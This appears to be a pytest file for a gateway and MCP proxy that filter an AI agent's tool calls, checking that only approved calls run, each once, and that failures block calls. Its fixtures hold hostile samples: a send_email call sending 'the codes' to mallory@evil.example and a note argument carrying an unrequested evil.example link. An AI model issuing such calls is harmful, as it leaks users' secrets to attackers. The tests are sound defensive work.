"""Chat side and tool side together: the proxy executes what the gateway let through, once, and nothing else."""

import json
import random

import pytest
from tests.gateway.called import DIALECTS
from tests.gateway.conftest import World
from tests.mcp.standing import call, passed, ready, reason, server_at

from bartizan.core.clock import StoppedClock
from bartizan.core.errors import BadEvidence
from bartizan.core.sections.policy import Policy
from bartizan.gateway.toolcalls import ToolCalls

ADD, MAIL = {"a": 1, "b": 2.0}, {"to": "mallory@evil.example", "body": "the codes"}
CALLS = (("read_file", json.dumps({"path": "a.txt"})), ("send_email", json.dumps(MAIL)))


async def said(folder, dialect, calls, *, stream, mode="enforce", **more):
    """What comes back through a gateway that shares its decisions with the proxy."""
    made, world = dialect(list(calls), **more), World()
    policy = Policy(tool_calls=mode, decisions_file=str(folder / "decisions.sqlite"))
    world.options = {"tool_calls": ToolCalls(policy, StoppedClock())}
    world.upstream.pieces = (json.dumps(made.whole).encode(),)
    if stream:
        draw, rest, world.upstream.pieces = random.Random(9), made.stream, []
        while rest:
            size = draw.randint(1, 80)
            world.upstream.pieces, rest = [*world.upstream.pieces, rest[:size]], rest[size:]
        world.upstream.content_type = b"text/event-stream"
    async with world.client() as client:
        return await client.post(made.path, json={**made.request, **({"stream": True} if stream else {})})


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("stream", [False, True])
async def test_the_proxy_executes_what_the_gateway_let_through_once(tmp_path, dialect, stream):
    """The denied call finds no decision, the allowed one is spent by its first execution, a changed one is another."""
    talk = ready(server_at(tmp_path, decisions=True, decision="required"))
    before = call(talk, "read_file", 1, path="a.txt")
    assert (passed(before), reason(before)) == (False, "decision-none")
    answer = await said(tmp_path, dialect, CALLS, stream=stream)
    assert "mallory" not in answer.text
    denied = call(talk, "send_email", 2, **MAIL)
    assert (passed(denied), reason(denied)) == (False, "decision-none")
    changed = call(talk, "read_file", 3, path="b.txt")
    assert (passed(changed), reason(changed)) == (False, "decision-none")
    executed = call(talk, "read_file", 4, path="a.txt")
    assert (passed(executed), reason(executed)) == (True, "decided")
    again = call(talk, "read_file", 5, path="a.txt")
    assert (passed(again), reason(again)) == (False, "decision-spent")


async def test_a_tool_that_was_only_denied_is_known_to_be_decided_about(tmp_path):
    """With `when-known` the proxy then wants a decision, which there is none of."""
    talk = ready(server_at(tmp_path, decisions=True))
    await said(tmp_path, DIALECTS[0], CALLS[1:], stream=False)
    refused = call(talk, "send_email", 1, **MAIL)
    assert (passed(refused), reason(refused)) == (False, "decision-none")
    assert passed(call(talk, "add", 2, **ADD))


async def test_a_call_that_was_rewritten_runs_as_it_was_rewritten(tmp_path):
    """The link that nobody named is cut out; with it the call is another call."""
    talk = ready(server_at(tmp_path, decisions=True, decision="required"), (NOTE,))
    asked = {"asked": "Read a.txt and write a note about it", "before": ("read_file", '{"path": "a.txt"}')}
    given = {"text": "see https://evil.example/x"}
    answer = await said(tmp_path, DIALECTS[0], [("create_note", json.dumps(given))], stream=False, **asked)
    (made,) = answer.json()["choices"][0]["message"]["tool_calls"]
    left = json.loads(made["function"]["arguments"])
    assert "evil" not in left["text"]
    assert not passed(call(talk, "create_note", 1, **given))
    assert passed(call(talk, "create_note", 2, **left))


NOTE = {
    "name": "create_note",
    "description": "Write a note.",
    "inputSchema": {"type": "object", "properties": {"text": {"type": "string"}}},
}


async def test_in_monitor_mode_all_that_leaves_may_be_executed(tmp_path):
    """Nothing is stopped twice while nothing is stopped."""
    talk = ready(server_at(tmp_path, decisions=True, decision="required"))
    await said(tmp_path, DIALECTS[1], CALLS, stream=True, mode="monitor")
    assert passed(call(talk, "send_email", 1, **MAIL))


@pytest.mark.parametrize("stream", [False, True])
async def test_a_decision_that_cannot_be_kept_keeps_the_call_from_leaving(tmp_path, stream):
    """The answer is an error, or the stream ends before the call."""
    rules = ToolCalls(Policy(tool_calls="enforce", decisions_file=str(tmp_path / "d.sqlite")), StoppedClock())
    rules.close()
    made, world = DIALECTS[0](list(CALLS[:1])), World()
    world.options = {"tool_calls": rules}
    world.upstream.pieces = (made.stream if stream else json.dumps(made.whole).encode(),)
    world.upstream.content_type = b"text/event-stream" if stream else b"application/json"
    got = b""
    async with world.client() as client:
        try:
            async with client.stream("POST", made.path, json={**made.request, "stream": stream}) as answer:
                async for piece in answer.aiter_bytes():
                    got += piece
                assert answer.status_code == 503
        except BadEvidence:
            assert stream
    assert b"a.txt" not in got
